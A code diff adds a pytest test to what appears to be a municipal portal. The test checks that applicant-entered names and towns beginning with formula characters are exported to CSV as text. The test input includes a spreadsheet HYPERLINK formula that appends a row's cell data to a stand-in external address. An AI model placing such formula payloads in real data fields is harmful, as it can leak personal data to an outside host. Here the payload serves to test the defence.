@@ -97,6 +97,19 @@ def test_the_people_csv_has_exactly_the_filtered_rows(user_of, many):
     assert rows[1][2] == "pessoa física"  # the label, never the stored value "natural"
 
 
+def test_the_people_csv_keeps_what_an_applicant_typed_as_a_formula_as_text(user_of, ipatinga_m):
+    """The name and the town come from the applicant's own sign-up and "Meus dados" on the
+    portal: a cell that starts with =, +, - or @ is run as a formula by the spreadsheet the
+    desk opens the CSV in (it may fetch an address with the row's data). It is exported as
+    text, an apostrophe before it."""
+    formula = '=HYPERLINK("https://exemplo.invalid/?"&B2;"Abrir") Formulada'
+    person(ipatinga_m, name=formula, city="+1+1")
+    rows = csv_rows(client_as(user_of, Role.ATENDENTE).get(f"{C}/pessoas/?q=formulada&formato=csv"))
+    assert len(rows) == 2
+    name, _, _, city, _ = rows[1]
+    assert (name, city) == ("'" + formula, "'+1+1")
+
+
 @pytest.mark.parametrize("role", [Role.JARI, Role.CHEFE_EXECUTIVO], ids=lambda r: r.value)
 def test_a_role_that_sees_the_cpf_masked_sees_it_masked_on_the_list_and_in_the_csv(
     user_of, ipatinga_m, role
